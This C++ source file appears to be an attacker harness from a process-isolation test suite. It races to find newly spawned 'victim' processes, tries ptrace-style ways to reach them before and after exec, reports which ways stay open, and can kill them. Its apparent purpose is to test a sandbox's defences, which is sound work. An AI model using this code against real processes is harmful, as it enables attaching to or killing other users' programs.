// SPDX-License-Identifier: Apache-2.0
#include "attacker.hpp"

#include <array>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <dirent.h>
#include <fcntl.h>
#include <set>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace attacker {

namespace {

constexpr int kExitUsage = 2;
constexpr int kAhead = 4;        // how many numbers after the last pid are tried without reading /proc
constexpr int kLook = 256;       // rounds between two reads of /proc
constexpr double kPatience = 5;  // seconds with one victim that does not execute

int reportFd = STDOUT_FILENO;

struct Count {
  int victims = 0;
  int reached = 0;
  int touched = 0;
};

double now() {
  timespec time{};
  ::clock_gettime(CLOCK_MONOTONIC, &time);
  return static_cast<double>(time.tv_sec) + static_cast<double>(time.tv_nsec) / 1e9;
}

std::set<pid_t> running() {
  std::set<pid_t> pids;
  DIR* const proc = ::opendir("/proc");
  if (proc == nullptr) return pids;
  while (const dirent* const entry = ::readdir(proc)) {  // NOLINT(concurrency-mt-unsafe): one thread
    const int pid = std::atoi(entry->d_name);            // NOLINT(cert-err34-c): 0 is none
    if (pid > 0) pids.insert(pid);
  }
  ::closedir(proc);
  return pids;
}

/// Attacks before the fallback runs. Whether an open way counts depends on what the victim still holds
/// afterwards: an inspection that comes too late proves nothing.
Phase attack(pid_t pid, int pidfd, const Options& options, Count& count) {
  std::set<std::string_view> open;
  for (const double end = now() + kPatience; now() < end;) {
    Phase phase = phaseOf(pid, options);
    // Each victim begins with a different way, because the first open way may delay the victim.
    for (std::size_t i = 0; i < ways().size() && phase != Phase::executed && phase != Phase::gone; ++i) {
      const Way& way = ways()[(i + static_cast<std::size_t>(count.victims)) % ways().size()];
      if (open.contains(way.name) || way.tryIt(pid, pidfd) != 0) continue;
      phase = way.holds ? inspect(pid, options) : phaseOf(pid, options);
      if (phase == Phase::executed || phase == Phase::gone) break;
      open.insert(way.name);
      const bool hosts = phase == Phase::hosts;
      ++(hosts ? count.reached : count.touched);
      say(std::string(hosts ? "reached " : "touched ") + std::string(way.name) + " " + std::to_string(pid) +
          " " + describe(pid));
    }
    if (phase == Phase::executed || phase == Phase::gone) return phase;
    if (options.kill && ::kill(pid, SIGKILL) == 0) {
      say("killed " + std::to_string(pid) + " " + describe(pid));
      return Phase::gone;
    }
  }
  return Phase::gone;
}

/// Retries: a process that traced the victim up to its execveat may still hold it for a moment.
int tryPatiently(const Way& way, pid_t pid, int pidfd, int millis) {
  int error = way.tryIt(pid, pidfd);
  for (int i = 0; error == EPERM && way.holds && i < millis; ++i) {
    ::usleep(1000);
    error = way.tryIt(pid, pidfd);
  }
  return error;
}

void attackAfter(pid_t pid, int pidfd, const Options& options) {
  for (const Way& way : ways()) {
    const int error = tryPatiently(way, pid, pidfd, options.patience);
    if (error == 0 && way.holds) {
      int state = 0;
      (void)stopSeized(pid, state);
      ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    }
    say("after " + std::string(way.name) + " " + std::to_string(pid) + " " +
        (error == 0 ? "open" : ::strerrorname_np(error)));
  }
}

void meet(pid_t pid, const Options& options, Count& count) {
  const int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
  if (pidfd < 0) return;
  ++count.victims;
  const Phase end = attack(pid, pidfd, options, count);
  say("victim " + std::to_string(pid) + " " + describe(pid) +
      (end == Phase::executed ? " executed" : " ended"));
  if (end == Phase::executed) attackAfter(pid, pidfd, options);
  ::close(pidfd);
}

void hunt(const Options& options) {
  const double end = now() + options.seconds;
  Count count;
  auto known = running();
  pid_t last = *known.rbegin();
  say("ready");
  for (int round = 0; now() < end && (options.victims == 0 || count.victims < options.victims); ++round) {
    for (pid_t next = last + 1; next <= last + kAhead; ++next) {
      if (::kill(next, 0) != 0 && errno == ESRCH) continue;
      if (known.insert(next).second) meet(next, options, count);
      last = next;
      break;
    }
    if (round % kLook != 0) continue;
    const auto seen = running();
    for (const pid_t pid : seen) {
      if (known.contains(pid)) continue;
      meet(pid, options, count);
      last = pid;
    }
    known = seen;
    known.insert(last);
  }
  say("end victims=" + std::to_string(count.victims) + " reached=" + std::to_string(count.reached) +
      " touched=" + std::to_string(count.touched));
}

}  // namespace

void say(const std::string& line) {
  const std::string whole = line + "\n";
  (void)!::write(reportFd, whole.data(), whole.size());
}

int run(int argc, char** argv) {
  Options options;
  for (int i = 1; i < argc; ++i) {
    const std::string_view word = argv[i];
    const auto value = [&](std::string_view name) {
      return word.starts_with(name) ? argv[i] + name.size() : nullptr;
    };
    if (const char* token = value("--token="))
      options.token = token;
    else if (const char* program = value("--program="))
      options.program = program;
    else if (const char* secret = value("--secret="))
      options.secret = secret;
    else if (const char* report = value("--report="))
      options.report = report;
    else if (const char* uid = value("--uid="))
      options.uid = static_cast<unsigned>(std::atoi(uid));
    else if (const char* seconds = value("--seconds="))
      options.seconds = std::atoi(seconds);
    else if (const char* patience = value("--patience="))
      options.patience = std::atoi(patience);
    else if (const char* victims = value("--victims="))
      options.victims = std::atoi(victims);
    else if (word == "--kill")
      options.kill = true;
    else
      return kExitUsage;
  }
  if (!options.report.empty()) {
    reportFd = ::open(options.report.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (reportFd < 0) return kExitUsage;
  }
  hunt(options);
  return 0;
}

}  // namespace attacker

int main(int argc, char** argv) {
  return attacker::run(argc, argv);
}
